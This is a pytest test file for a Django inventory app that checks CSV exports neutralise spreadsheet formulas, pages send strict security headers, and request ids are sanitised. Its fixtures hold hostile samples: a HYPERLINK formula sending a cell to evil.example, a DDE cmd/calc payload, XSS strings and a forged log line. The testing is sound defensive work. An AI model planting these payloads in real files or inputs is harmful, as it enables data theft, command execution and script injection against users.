"""Outputs that cannot be turned against their reader (issue 14).

* CSV: a cell a spreadsheet would run as a formula (``=``, ``+``, ``-``, ``@``, tab, CR first) is
  neutralised with a leading ``'`` in every export, as OWASP recommends; an exported plan still
  imports back unchanged.
* Every response carries a Content-Security-Policy with no inline script or style, and a
  Permissions-Policy; what a logged-in user is answered (pages, exports, token API calls) is
  ``Cache-Control: private``.
* A client's ``X-Request-ID`` is used only when it is a plain id; anything else (markup, a line
  break for a forged log line, 1 KB of text) is replaced, and the 503 page escapes what it prints.
"""

import csv
import io
import logging
import re

import pytest
from django.test import Client, RequestFactory
from rest_framework.test import APIClient

from inventory.core import csvsafe
from inventory.core.choices import TokenKind
from inventory.middleware.failsafe import unavailable_response
from inventory.models import Cable, Device
from inventory.services.access import tokens as token_services

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _rows(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def _cells(body: bytes) -> list[str]:
    return [cell for row in _rows(body) for cell in row]


@pytest.fixture
def poisoned(plant):
    cable = Cable.objects.get(label="N-1")
    cable.part_number = FORMULA
    cable.save()
    device = Device.objects.get(name="leaf-n")
    device.model, device.serial = "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"
    device.save()
    return plant


def _session(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


@pytest.mark.parametrize(
    "url", ["/cables/?format=csv", "/api/cables/export/?as=csv", "/api/cables/export/?as=netbox"]
)
def test_cable_exports_neutralise_formula_cells(poisoned, url):
    response = _session(poisoned.users["viewer"]).get(url)
    assert response.status_code == 200
    body = b"".join(response.streaming_content) if response.streaming else response.content
    cells = _cells(body)
    assert not [c for c in cells if c.startswith(csvsafe.FORMULA_STARTS)], cells
    if "netbox" not in url:
        assert "'" + FORMULA in cells


def test_device_export_neutralises_formula_cells(poisoned):
    response = _session(poisoned.users["viewer"]).get("/api/devices/export/")
    assert response.status_code == 200
    cells = _cells(response.content)
    assert not [c for c in cells if c.startswith(csvsafe.FORMULA_STARTS)], cells
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells


def test_an_exported_plan_with_neutralised_cells_imports_back_unchanged(poisoned):
    api = APIClient()
    api.force_login(poisoned.users["engineer"])
    exported = api.get("/api/cables/export/?as=csv").content
    assert ("'" + FORMULA).encode() in exported.replace(b'""', b'"')
    back = api.post("/api/cables/import/?dry_run=1", data=exported, content_type="text/csv")
    assert back.status_code == 200, back.content[:500]
    assert back.json()["summary"]["unchanged"] == 2 and back.json()["summary"]["change"] == 0


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"])
def test_every_formula_start_is_neutralised_and_reads_back(value):
    buf = io.StringIO()
    csvsafe.writer(buf).writerow([value, 3, -2.5, "plain"])
    row = next(csv.reader(io.StringIO(buf.getvalue())))
    assert row == ["'" + value, "3", "-2.5", "plain"]
    assert csvsafe.unescape(row[0]) == value


# --- headers ----------------------------------------------------------------------------------


def _csp(response) -> dict[str, list[str]]:
    header = response["Content-Security-Policy"]
    return {d.split()[0]: d.split()[1:] for d in header.split(";") if d.strip()}


@pytest.mark.parametrize("url", ["/", "/c/N-1", "/cables/", "/profile/", "/login/"])
def test_pages_carry_a_csp_without_inline_script_or_style_and_a_permissions_policy(plant, url):
    client = _session(plant.users["engineer"]) if url != "/login/" else Client()
    response = client.get(url)
    assert response.status_code == 200
    csp = _csp(response)
    assert csp["default-src"] == ["'self'"] and csp["script-src"] == ["'self'"]
    assert "'unsafe-inline'" not in csp["style-src"] and csp["object-src"] == ["'none'"]
    policy = response["Permissions-Policy"]
    assert "camera=(self)" in policy and "microphone=()" in policy and "geolocation=()" in policy
    html = response.content.decode()
    assert not re.search(r"<script(?![^>]*\bsrc=)[^>]*>", html), "an inline script the CSP would block"
    assert " style=" not in html and "<style" not in html


def test_the_label_batch_page_polls_from_a_script_file(plant):
    template = open("templates/inventory/labels/batch.html").read()  # noqa: SIM115
    assert "<script src=" in template and "<script>" not in template and "style=" not in template


@pytest.mark.parametrize(
    "url", ["/", "/cables/", "/cables/?format=csv", "/api/cables/", "/api/cables/export/?as=csv"]
)
def test_what_a_logged_in_user_is_answered_is_cache_control_private(plant, url):
    response = _session(plant.users["viewer"]).get(url)
    assert response.status_code == 200
    assert "private" in response["Cache-Control"] and "public" not in response["Cache-Control"]


def test_token_answers_are_private_too(plant):
    _, raw = token_services.api_token_create(user=plant.users["viewer"], name="t", kind=TokenKind.READ_ONLY)
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Bearer {raw}")
    response = client.get("/api/devices/export/")
    assert response.status_code == 200 and "private" in response["Cache-Control"]


def test_the_api_docs_pages_load_without_inline_scripts(plant):
    response = _session(plant.users["viewer"]).get("/api/docs/")
    assert response.status_code == 200
    html = response.content.decode()
    assert not re.search(r"<script(?![^>]*\bsrc=)[^>]*>", html)
    assert "'unsafe-inline'" not in _csp(response)["script-src"]


# --- request ids -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "given", ["<script>alert(1)</script>", "abc\nINFO forged line", "x" * 65, "id with spaces", ""]
)
def test_a_request_id_that_is_not_a_plain_id_is_replaced(plant, given, caplog):
    response = Client().get("/healthz", HTTP_X_REQUEST_ID=given)
    rid = response["X-Request-ID"]
    assert rid != given and re.fullmatch(r"[0-9a-f]{32}", rid)


def test_a_plain_request_id_is_kept(plant):
    given = "7d3c1a9e-1f2b-4c5d-8e9f-0a1b2c3d4e5f"
    assert Client().get("/healthz", HTTP_X_REQUEST_ID=given)["X-Request-ID"] == given


def test_the_503_page_escapes_what_it_prints(caplog):
    request = RequestFactory().get("/c/N-1")
    request.request_id = "<img src=x onerror=alert(1)>"
    with caplog.at_level(logging.WARNING):
        response = unavailable_response(request, ConnectionError("down"))
    assert response.status_code == 503
    assert b"<img" not in response.content and b"&lt;img" in response.content
